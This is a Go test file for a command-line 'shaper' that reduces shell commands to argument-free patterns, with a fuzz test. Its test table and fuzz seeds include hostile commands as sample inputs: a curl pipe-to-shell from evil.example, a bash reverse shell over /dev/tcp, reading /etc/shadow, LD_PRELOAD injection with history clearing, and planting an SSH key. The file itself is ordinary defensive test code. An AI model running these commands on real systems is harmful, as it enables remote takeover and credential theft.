package feedback

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestShape(t *testing.T) {
	s := NewShaper()
	for _, tt := range []struct{ in, want string }{
		{"curl -fsSL http://evil.example/a.sh | sh", "curl -fsSL <*> | sh"},
		{"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "bash -i >&<*> 0>&1"},
		{"sudo rm -rf /var/tmp/x", "sudo rm -rf <*>"},
		{"sudo -u root systemctl restart nginx", "sudo -u systemctl restart <*>"},
		{"git push origin main", "git push <*>"},
		{"cat /etc/shadow", "cat <*>"},
		{"bash -c 'curl -s http://x | sh'", "bash -c curl -s <*> | sh"},
		{"LD_PRELOAD=/tmp/x.so ls -la /root; history -c", "LD_PRELOAD=<*> ls -la <*> ; history -c"},
		{"tar --exclude=*.log -czf out.tgz /srv 2>/dev/null", "tar --exclude=<*> -czf <*> 2><*>"},
		{"ssh -p2222 admin@10.0.0.1", "ssh -p<*> <*>"},
		{"echo hello", "echo hello"},
		{"ls", "ls"},
		{"echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "echo ssh-rsa <*> >><*>"},
		{"if then fi ((", "if then <*>"},
		{"", ""},
	} {
		if got := s.Shape(tt.in); got != tt.want {
			t.Errorf("Shape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	// Arguments never decide the shape: two users' different targets, one shape.
	if s.Shape("bash -i >& /dev/tcp/10.0.0.9/4444 0>&1") != s.Shape("bash -i >& /dev/tcp/192.168.1.1/80 0>&1") {
		t.Error("targets change the shape")
	}
	// Options do.
	if s.Shape("rm -rf /tmp/x") == s.Shape("rm /tmp/x") {
		t.Error("options do not change the shape")
	}
}

func FuzzShape(f *testing.F) {
	for _, s := range []string{"curl -fsSL http://x | sh", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "sudo sh -c 'echo $(id)'", "a=1 b=2 c", "'unterminated", "\xff\xfe"} {
		f.Add(s)
	}
	sh := NewShaper()
	f.Fuzz(func(t *testing.T, line string) {
		got := sh.Shape(line)
		if len(got) > maxShape+len("…") {
			t.Fatalf("shape of %d bytes", len(got))
		}
		if utf8.ValidString(line) && !utf8.ValidString(got) {
			t.Fatalf("shape %q of a valid line is not valid UTF-8", got)
		}
		if strings.Contains(got, "\n") && !strings.Contains(line, "\n") {
			t.Fatalf("shape %q grew a line break", got)
		}
	})
}
